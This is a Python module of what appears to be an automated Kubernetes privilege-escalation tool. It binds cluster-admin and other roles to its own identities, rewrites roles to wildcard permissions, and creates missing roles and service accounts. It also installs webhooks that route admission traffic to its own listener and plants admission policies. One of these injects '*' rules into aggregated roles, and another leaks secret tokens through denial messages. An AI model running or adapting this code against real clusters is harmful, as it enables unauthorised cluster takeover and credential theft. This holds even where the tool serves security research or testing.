"""How the robot gets more rights for those it is: bindings, roles, accounts, admission."""
import hashlib
import json
import time

from listener import ALL, GATHERER
from world import ADMISSION, NAMESPACES, RBAC, is_built_in

HOOKS = ("validatingwebhookconfigurations", "mutatingwebhookconfigurations")
POLICIES, POLICY_BINDINGS = "mutatingadmissionpolicies", "mutatingadmissionpolicybindings"


def short(what):
    return hashlib.sha256(json.dumps(what, sort_keys=True).encode()).hexdigest()[:6]


def everybody(robot):
    """All that the robot is, as subjects."""
    subjects = {json.dumps(who.subject(), sort_keys=True) for who in robot.hand.values()}
    return [json.loads(subject) for subject in sorted(subjects)]


# Bindings

def roles_to_bind(robot, who, namespace):
    """(kind, name) of the roles worth it: cluster-admin, those that are not built in, those that one may bind."""
    names = {"cluster-admin"}
    names |= {key[2] for key, _ in robot.world.own_roles() if key[0] == "ClusterRole"}
    names |= set(robot.world.named(who, "bind", RBAC, "clusterroles", namespace))
    found = [("ClusterRole", name) for name in sorted(names)]
    if namespace:
        own = {key[2] for key, _ in robot.world.own_roles() if key[:2] == ("Role", namespace)}
        own |= set(robot.world.named(who, "bind", RBAC, "roles", namespace))
        found += [("Role", name) for name in sorted(own)]
    return found


def scopes():
    return [("clusterrolebindings", None), *[("rolebindings", namespace) for namespace in NAMESPACES]]


def bind(robot, who):
    """New bindings of each role, to all that the robot is."""
    subjects = everybody(robot)
    for resource, namespace in scopes():
        if not robot.may(who, "create", RBAC, resource, namespace):
            continue
        present = {b["metadata"]["name"] for b in robot.world.bindings if b["metadata"].get("namespace") == namespace}
        free = [n for n in robot.world.named(who, "create", RBAC, resource, namespace) if n not in present]
        for kind, name in roles_to_bind(robot, who, namespace):
            if all(has(robot, subject, kind, name, namespace) for subject in subjects):
                continue
            body = {"subjects": subjects, "roleRef": {"apiGroup": RBAC, "kind": kind, "name": name}}
            for binding in (f"z-{name}-{short(body)}", *free):
                robot.make(who, RBAC, resource, namespace, binding, body)


def has(robot, subject, kind, role, namespace):
    return any(subject in map(plain, b.get("subjects") or []) and b["roleRef"]["name"] == role and b["roleRef"]["kind"] == kind
               and b["metadata"].get("namespace") in (None, namespace) for b in robot.world.bindings)


def plain(subject):
    return {key: value for key, value in subject.items() if not (key == "apiGroup" and subject["kind"] == "ServiceAccount")}


def join_bindings(robot, who):
    """All that the robot is, into each binding that there is."""
    for binding in robot.world.bindings:
        resource, namespace = binding["kind"].lower() + "s", binding["metadata"].get("namespace")
        old = [plain(s) for s in binding.get("subjects") or []]
        new = [s for s in everybody(robot) if s not in old]
        if new and (namespace in (None, *NAMESPACES)):
            robot.change(who, RBAC, resource, namespace, binding, {"subjects": binding.get("subjects", []) + new})


# Roles

def own_rules(robot, who, namespace):
    """What one holds there, to write into other roles."""
    rules = []
    for rule in robot.world.rules(who, namespace):
        if rule not in rules:
            rules.append(rule)
    return rules


def with_own(robot, who, namespace, rules):
    old = rules or []
    return old + [rule for rule in own_rules(robot, who, namespace) if rule not in old]


def held_roles(robot):
    """Those whose rules the robot would have, or may come to have."""
    held = {id(robot.world.role_of(b)) for who in robot.hand.values() for ns in (None, *NAMESPACES)
            for b in robot.world.bindings_of(who, ns)}
    own = {id(role) for _, role in robot.world.own_roles()}
    return [(key, role) for key, role in sorted(robot.world.roles.items(), key=str)
            if (id(role) in held or id(role) in own) and key[1] in (None, *NAMESPACES)]


def write_roles(robot, who):
    """Everything, else what one holds oneself, into each role."""
    for (kind, namespace, name), role in held_roles(robot):
        resource = kind.lower() + "s"
        if not any(robot.may(who, verb, RBAC, resource, namespace) for verb in ("patch", "update")):
            continue
        if name == "cluster-admin":
            continue
        if role.get("rules") == ALL:
            join_sums(robot, who, kind, role, ALL)
            continue
        gathered = {"aggregationRule": None} if role.get("aggregationRule") else {}
        if robot.change(who, RBAC, resource, namespace, role, {"rules": ALL, **gathered}) is not None:
            continue
        mine = with_own(robot, who, namespace, role.get("rules"))
        if mine != (role.get("rules") or []) and not gathered:
            robot.change(who, RBAC, resource, namespace, role, {"rules": mine})
        join_sums(robot, who, kind, role, mine)


def join_sums(robot, who, kind, role, mine):
    """The labels of aggregated roles onto a role, with all rules, its own and the requester's, or as it is."""
    for _, labels in robot.world.sums() if kind == "ClusterRole" else ():
        if labels.items() <= role["metadata"].get("labels", {}).items():
            continue
        for rules in (ALL, mine, role.get("rules") or []):
            merged = {**role["metadata"].get("labels", {}), **labels}
            if robot.change(who, RBAC, "clusterroles", None, role, {"metadata": {"labels": merged}, "rules": rules}) is not None:
                break


def missing_roles(robot):
    """Those that bindings wait for."""
    found = set()
    for binding in robot.world.bindings:
        ref, namespace = binding["roleRef"], binding["metadata"].get("namespace")
        if robot.world.role_of(binding) is None and namespace in (None, *NAMESPACES):
            found.add((ref["kind"], namespace if ref["kind"] == "Role" else None, ref["name"]))
    return found


def make_roles(robot, who):
    """Those that bindings wait for, parts of aggregated ones, and an empty one to fill later."""
    world = robot.world
    for kind, namespace, name in sorted(missing_roles(robot), key=str):
        make_role(robot, who, kind, namespace, name, {})
    named = {n for held in robot.hand.values() for verb in ("create", "update", "patch", "escalate", "bind")
             for n in world.named(held, verb, RBAC, "clusterroles")}
    names = sorted(n for n in named if ("ClusterRole", None, n) not in world.roles)
    for _, labels in world.sums():
        for name in (f"z-part-{short(labels)}-{robot.traps}-{short(own_rules(robot, who, None))}", *names):
            make_role(robot, who, "ClusterRole", None, name, labels)
    for scope, kind, some in ((None, "ClusterRole", names), *[(ns, "Role", []) for ns in ("pa", "pb")]):
        for name in ("z-empty", *some):
            if (kind, scope, name) not in world.roles:
                robot.make(who, RBAC, kind.lower() + "s", scope, name, {"rules": []})


def make_role(robot, who, kind, namespace, name, labels):
    if (kind, namespace, name) in robot.world.roles:
        return
    for rules in (ALL, own_rules(robot, who, namespace), []):
        if robot.make(who, RBAC, kind.lower() + "s", namespace, name, {"metadata": {"labels": labels}, "rules": rules}) is not None:
            return


# Accounts

def make_accounts(robot, who):
    """Those that bindings wait for, and one in each namespace whose accounts have something."""
    wanted = {(ns, name) for ns, name in robot.world.subjects("ServiceAccount") if ns in NAMESPACES}
    for user in robot.world.subjects("User"):
        if user.startswith("system:serviceaccount:") and user.count(":") == 3:
            wanted.add(tuple(user.split(":")[2:]))
    groups = set(robot.world.subjects("Group"))
    wanted |= {(ns, "made") for ns in NAMESPACES if groups & {"system:serviceaccounts", f"system:serviceaccounts:{ns}"}}
    for namespace, name in sorted(wanted - robot.world.accounts):
        robot.make(who, "", "serviceaccounts", namespace, name, {})


# Admission

def set_trap(robot, *made):
    """What was made is in force after a moment, and what was tried before may end otherwise now."""
    if any(made):
        robot.traps += 1
        time.sleep(1.5)


def webhooks(robot, who):
    """The robot's own webhook, in a configuration of its own or one that is there."""
    for resource, path in zip(HOOKS, ("see", "change")):
        if not any(robot.may(who, verb, ADMISSION, resource) for verb in ("create", "update", "patch")):
            continue
        if path == "see" and not robot.may_use("a validating webhook reads token secrets"):
            continue
        body = {"metadata": {"name": "z"}, "webhooks": robot.listener.hooks(path)}
        set_up = robot.send(who, "create", ADMISSION, resource, body=body) is not None
        for item in robot.world.hooks[resource]:
            if item["metadata"]["name"] != "z":
                changes = {"webhooks": robot.listener.hooks(path)}
                set_up |= robot.change(who, ADMISSION, resource, None, item, changes) is not None
        set_trap(robot, set_up)


def policies(robot, who):
    """A policy that fills whatever role the control plane gathers, and its binding."""
    spec = {"failurePolicy": "Ignore", "reinvocationPolicy": "Never",
            "matchConstraints": {"resourceRules": [{"operations": ["UPDATE"], "apiGroups": [RBAC], "apiVersions": ["v1"],
                                                    "resources": ["clusterroles"]}]},
            "matchConditions": [{"name": "who", "expression": f"request.userInfo.username == '{GATHERER}'"}],
            "mutations": [{"patchType": "JSONPatch", "jsonPatch": {"expression": (
                '[JSONPatch{op: "add", path: "/rules", value: [Object.rules{verbs: ["*"], apiGroups: ["*"], resources: ["*"]}]}]')}}]}
    looking_policies(robot, who)
    made = robot.send(who, "create", ADMISSION, POLICIES, body={"metadata": {"name": "z"}, "spec": spec})
    bound = robot.send(who, "create", ADMISSION, POLICY_BINDINGS, body={"metadata": {"name": "z"}, "spec": {"policyName": "z"}})
    set_trap(robot, made, bound)


def looking_policies(robot, who):
    """A policy whose refusal tells the token of the secret that one wants to change."""
    token = "string(oldObject.data.token)"
    spec = {"failurePolicy": "Ignore",
            "matchConstraints": {"resourceRules": [{"operations": ["UPDATE", "DELETE"], "apiGroups": [""],
                                                    "apiVersions": ["v1"], "resources": ["secrets"]}]},
            "matchConditions": [{"name": "mine", "expression": "request.dryRun && has(oldObject.data) && has(oldObject.data.token)"}],
            "validations": [{"expression": "false", "messageExpression": token}]}
    kinds = "validatingadmissionpolicies", "validatingadmissionpolicybindings"
    if not any(robot.may(held, "create", ADMISSION, kinds[0]) and robot.may_use("a validating policy tells tokens")
               for held in robot.hand.values()):
        return
    made = robot.send(who, "create", ADMISSION, kinds[0], body={"metadata": {"name": "z"}, "spec": spec})
    bound = robot.send(who, "create", ADMISSION, kinds[1], body={
        "metadata": {"name": "z"}, "spec": {"policyName": "z", "validationActions": ["Deny"]}})
    set_trap(robot, made, bound)


MOVES = (bind, join_bindings, write_roles, make_roles, make_accounts, webhooks, policies)


# What takes something away

def losses(robot):
    """Each a function that does one thing, None where it was refused. Only what may be of use later: a role
    that is one's own or can be bound, a binding whose name is needed."""
    binds = writes(robot, ("create", "update", "patch"))
    held = {id(robot.world.role_of(b)) for who in robot.hand.values() for ns in (None, *NAMESPACES)
            for b in robot.world.bindings_of(who, ns)}
    for who in list(robot.hand.values()):
        for (kind, namespace, name), role in robot.world.own_roles():
            if not binds and id(role) not in held:
                continue
            resource = kind.lower() + "s"
            for rules in ([], own_rules(robot, who, namespace)):
                if (role.get("rules") or []) != rules and not role.get("aggregationRule"):
                    yield lambda r=rules: robot.change(who, RBAC, resource, namespace, role, {"rules": r})
            yield lambda: remove(robot, who, resource, namespace, name)
        for binding in robot.world.bindings if writes(robot, ("create",)) else ():
            if not is_built_in(binding):
                resource, metadata = binding["kind"].lower() + "s", binding["metadata"]
                yield lambda: remove(robot, who, resource, metadata.get("namespace"), metadata["name"])


def writes(robot, verbs):
    """Whether anybody of ours may write bindings."""
    return any(robot.may(who, verb, RBAC, resource, namespace) for who in robot.hand.values() for verb in verbs
               for resource, namespace in scopes())


def remove(robot, who, resource, namespace, name):
    gone = robot.send(who, "delete", RBAC, resource, namespace, name)
    if gone is None:
        gone = robot.send(who, "deletecollection", RBAC, resource, namespace, query=f"?fieldSelector=metadata.name%3D{name}")
    return gone
